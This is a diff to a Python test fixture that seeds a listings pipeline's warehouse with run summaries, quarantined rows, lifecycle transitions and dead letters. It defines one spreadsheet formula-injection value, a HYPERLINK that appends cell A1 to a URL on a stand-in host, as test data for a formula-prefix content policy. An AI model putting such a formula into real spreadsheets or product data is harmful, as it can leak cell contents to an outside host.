@@ -1,11 +1,15 @@
 """A warehouse as the pipeline leaves it after a few days of work, written through the pipeline's own
 writers (lifecycle transitions, dead letters, call and issue records) wherever one exists.
 
-Two sellers: ``A1SELLER`` (US and DE) and ``A3EUSELLER`` (UK). In the US, a catalog run quarantined
-one SKU, a feed (``F-DONE``) accepted seven messages and rejected one (``BAG-01``, dead-lettered with
+Two sellers: ``A1SELLER`` (US and DE) and ``A3EUSELLER`` (UK). In the US, a catalog run
+(``scheduled__1``) quarantined one SKU, a feed (``F-DONE``) accepted seven messages and rejected one (``BAG-01``, dead-lettered with
 Amazon's 90220), the Listings API rejected a hotfix twice (``BAG-02``, 4000006: one letter, attempt 2), a feed is
 still in progress (``F-PROG``), one is queued and one went FATAL. SP-API calls over the last hours
 include throttles and a 500. Times are relative to ``now``, so "recent" means what it says.
+
+Runs (``run_summaries``): ``catalog_feed_sync`` ran ``scheduled__0`` the day before (US, DE) and
+``scheduled__1`` (US, DE, UK); ``offers_inventory_sync`` ran ``scheduled__o1`` and ``scheduled__o2``
+(US) in the last hours. The quarantine holds rows of three of them: see :data:`RUN_QUARANTINE`.
 """
 
 from __future__ import annotations
@@ -27,6 +31,7 @@ from listings_pipeline.warehouse.models import (
     MessageResult,
     PublishAttempt,
     Quarantine,
+    RunSummary,
 )
 from listings_pipeline.warehouse.records import api_call_row, ensure_seller
 from spapi.client import CallRecord
@@ -38,6 +43,20 @@ DE = "A1PA6795UKMFR9"
 UK = "A1F83G8C2ARO7P"
 HASH_A, HASH_B = "a" * 64, "b" * 64
 ACCEPTED_SKUS = ["HP-01", "HP-02", "HP-03", "HP-04", "HP-05", "TT-01-M-BLK", "SH-00"]
+CATALOG_DAG, OFFERS_DAG = "catalog_feed_sync", "offers_inventory_sync"
+US_FILE, OFFERS_FILE = "/data/catalog/acme-us.csv", "/data/offers/acme-us.csv"
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
+#: run id -> (SKU or None, rule) of the US rows each run quarantined, in insertion order.
+RUN_QUARANTINE = {
+    "scheduled__0": [("SH-02", "content_policy.formula_prefixes"), ("HP-03", "specs.number")],
+    "scheduled__1": [
+        ("TT-02-L-RED", "expect_column_values_to_be_between"),
+        ("TT-02-L-RED", "content_policy.no_html"),
+        ("SH-02", "content_policy.formula_prefixes"),
+        (None, "expect_column_values_to_not_be_null"),
+    ],
+    "scheduled__o2": [("HP-05", "offers.price")],
+}
 
 
 @dataclass
@@ -93,6 +112,64 @@ def _call(operation: str, at: datetime, status: int | None, latency_ms: float, *
     return api_call_row(record, run_id="scheduled__1")
 
 
+def _quarantined(
+    sku: str | None, column: str, value: str, rule: str, line: int, run_id: str, at: datetime
+) -> dict[str, Any]:
+    return {
+        "seller_id": SELLER,
+        "marketplace_id": US,
+        "sku": sku,
+        "product_type": "SHIRT",
+        "column_name": column,
+        "value": value,
+        "rule": rule,
+        "reason": f"{column}: {rule}",
+        "source_file": US_FILE,
+        "source_line": line,
+        "run_id": run_id,
+        "quarantined_at": at,
+    }
+
+
+def _summary(
+    dag_id: str, run_id: str, seller: str, market: str, started: datetime, minutes: int, **counts: int
+) -> dict[str, Any]:
+    return {
+        "dag_id": dag_id,
+        "run_id": run_id,
+        "seller_id": seller,
+        "marketplace_id": market,
+        "started_at": started,
+        "ended_at": started + timedelta(minutes=minutes),
+        "status": "success",
+        **counts,
+    }
+
+
+def _run_summaries(s: Any, now: datetime, t: Any) -> None:
+    """Figures as ``summarise`` writes them; each branch adds up (extracted = quarantined + planned -
+    deleted + unchanged + skipped)."""
+    s.execute(
+        insert(RunSummary),
+        [
+            _summary(CATALOG_DAG, "scheduled__0", SELLER, US, t(-1440), 30,
+                     extracted=11, quarantined=2, quarantined_skus=2, planned=9, submitted=9, accepted=9),
+            _summary(CATALOG_DAG, "scheduled__0", SELLER, DE, t(-1440), 28, extracted=1, planned=1, submitted=1,
+                     accepted=1),
+            _summary(CATALOG_DAG, "scheduled__1", SELLER, US, t(0), 25,
+                     extracted=13, quarantined=4, quarantined_skus=2, planned=9, submitted=8, accepted=7, invalid=1,
+                     warnings=2, dead_lettered=1, throttled_calls=2),
+            _summary(CATALOG_DAG, "scheduled__1", SELLER, DE, t(0), 20, extracted=2, planned=1, unchanged=1),
+            _summary(CATALOG_DAG, "scheduled__1", EU_SELLER, UK, t(0), 22,
+                     extracted=2, planned=2, submitted=2, accepted=1, invalid=1, dead_lettered=1),
+            _summary(OFFERS_DAG, "scheduled__o1", SELLER, US, now - timedelta(hours=3), 2,
+                     extracted=7, planned=2, unchanged=5, submitted=2, accepted=2),
+            _summary(OFFERS_DAG, "scheduled__o2", SELLER, US, now - timedelta(hours=2), 3,
+                     extracted=7, quarantined=1, quarantined_skus=1, planned=1, unchanged=5, submitted=1, accepted=1),
+        ],
+    )  # fmt: skip
+
+
 def fill(engine: Engine, now: datetime) -> Facts:
     facts = Facts(now=now)
     day = now - timedelta(days=1)
@@ -140,6 +217,13 @@ def fill(engine: Engine, now: datetime) -> Facts:
             payload_hash=HASH_A,
         )
         lifecycle.transition(s, SELLER, DE, "TT-02-L-RED", "draft", "catalog", "scheduled__1", at=t(0))
+        # an offers_inventory_sync run with the catalog run's id (both scheduled at midnight) had a
+        # patch rejected in DE: its events name their DAG, so the catalog run does not count it
+        for minutes, status in ((30, "submitted"), (31, "invalid"), (32, "ready")):
+            lifecycle.transition(
+                s, SELLER, DE, "TT-01-M-BLK", status, "listings_api:sub-de", "scheduled__1",
+                at=t(minutes), dag_id=OFFERS_DAG,
+            )  # fmt: skip
         s.execute(
             insert(Quarantine),
             [
@@ -152,6 +236,8 @@ def fill(engine: Engine, now: datetime) -> Facts:
                     "value": "-5",
                     "rule": "expect_column_values_to_be_between",
                     "reason": "list_price must be at least 0.01",
+                    "source_file": US_FILE,
+                    "source_line": 12,
                     "run_id": "scheduled__1",
                     "quarantined_at": t(0),
                 },
@@ -164,11 +250,38 @@ def fill(engine: Engine, now: datetime) -> Facts:
                     "value": "<b>Tee</b>",
                     "rule": "content_policy.no_html",
                     "reason": "HTML is not allowed in item_name",
+                    "source_file": US_FILE,
+                    "source_line": 12,
                     "run_id": "scheduled__1",
                     "quarantined_at": t(0),
                 },
+                _quarantined(
+                    "SH-02", "item_name", FORMULA, "content_policy.formula_prefixes", 7, "scheduled__1", t(0)
+                ),
+                _quarantined(
+                    None, "sku", "", "expect_column_values_to_not_be_null", 15, "scheduled__1", t(0)
+                ),
+                # the day before: SH-02 was as bad already, HP-03 has been fixed since
+                _quarantined(
+                    "SH-02",
+                    "item_name",
+                    FORMULA,
+                    "content_policy.formula_prefixes",
+                    7,
+                    "scheduled__0",
+                    t(-1440),
+                ),
+                _quarantined("HP-03", "list_price", "12,99 EUR", "specs.number", 4, "scheduled__0", t(-1440)),
+                # an offers run: a price the offers sync cannot read
+                {
+                    **_quarantined(
+                        "HP-05", "price", "-1", "offers.price", 6, "scheduled__o2", now - timedelta(hours=2)
+                    ),
+                    "source_file": OFFERS_FILE,
+                },
             ],
         )
+        _run_summaries(s, now, t)
 
         # the ledger and four feeds
         attempts = s.scalars(
@@ -308,7 +421,7 @@ def fill(engine: Engine, now: datetime) -> Facts:
         lifecycle.transition(s, EU_SELLER, UK, "EU-01", "accepted", "feed:F-EU", at=t(2))
         lifecycle.transition(s, EU_SELLER, UK, "EU-02", "ready", "validation", at=t(0), payload_hash=HASH_A)
         lifecycle.transition(s, EU_SELLER, UK, "EU-02", "submitted", "feed:F-EU", at=t(1))
-        lifecycle.transition(s, EU_SELLER, UK, "EU-02", "invalid", "feed:F-EU", at=t(2))
+        lifecycle.transition(s, EU_SELLER, UK, "EU-02", "invalid", "feed:F-EU", "scheduled__1", at=t(2))
 
         # issues: the feed's report, the Listings API's answer, a feed-level error, and an old one
         s.execute(
@@ -393,10 +506,14 @@ def fill(engine: Engine, now: datetime) -> Facts:
                 payload={"sku": sku},
             )
             facts.letters[sku] = letter.id
-        for sku in ("BAG-01", "BAG-02", "EU-02"):
+        for sku, run_id in (
+            ("BAG-01", "scheduled__1"),
+            ("BAG-02", "manual__hotfix"),
+            ("EU-02", "scheduled__1"),
+        ):
             market = UK if sku == "EU-02" else US
             seller = EU_SELLER if sku == "EU-02" else SELLER
-            lifecycle.transition(s, seller, market, sku, "dead_lettered", "dead_letter", at=t(103))
+            lifecycle.transition(s, seller, market, sku, "dead_lettered", "dead_letter", run_id, at=t(103))
         old = s.get(DeadLetter, facts.letters["OLD-SKU"])
         assert old is not None
         lifecycle.move_dead_letter(s, old, "resolved", actor="ops@example.com", note="fixed by hand")
